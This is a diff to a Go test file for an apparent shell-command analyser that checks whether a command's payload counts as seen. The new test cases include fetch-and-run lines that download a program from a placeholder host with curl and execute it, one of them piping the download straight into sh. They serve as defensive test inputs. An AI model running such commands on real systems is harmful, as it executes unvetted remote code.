@@ -170,14 +170,21 @@ func TestScriptsAreWantedAndRead(t *testing.T) {
 	}
 }
 
-// What compiles and then runs is seen, whether or not a shell is put before it;
-// what can be there and cannot be read is not.
-func TestALineThatStartsWhatIsStillToBeBuiltIsSeen(t *testing.T) {
-	for reason, want := range map[string]bool{"not there": true, "too large": false} {
-		c := at("line", "bash -c 'cc -o tool tool.c && ./tool'")
-		c.Scene = []Observation{{Query: Query{"text", "/home/dev/app/tool"}, Error: reason}}
-		if p := facts(t, c).Stages[0].Payload; p == nil || p.Read != want {
-			t.Errorf("%s: payload %+v", reason, p)
+// What compiles and then runs, and what is no text, is as much seen with a shell
+// before it as without; what the line itself fetches or makes up is not.
+func TestALineThatStartsAProgramOfItsOwnIsSeen(t *testing.T) {
+	for line, want := range map[string]bool{
+		"bash -c 'cc -o tool tool.c && ./tool'":        true,
+		"sh -c './tool && echo ok'":                    true,
+		"bash -c 'curl -so tool http://e.x/t; ./tool'": false,
+		"bash -c 'sh <(curl -s http://e.x/t); ./tool'": false,
+	} {
+		for _, reason := range []string{"not there", "not UTF-8 text"} {
+			c := at("line", line)
+			c.Scene = []Observation{{Query: Query{"text", "/home/dev/app/tool"}, Error: reason}}
+			if p := facts(t, c).Stages[0].Payload; p == nil || p.Read != want {
+				t.Errorf("%s (%s): payload %+v", line, reason, p)
+			}
 		}
 	}
 }
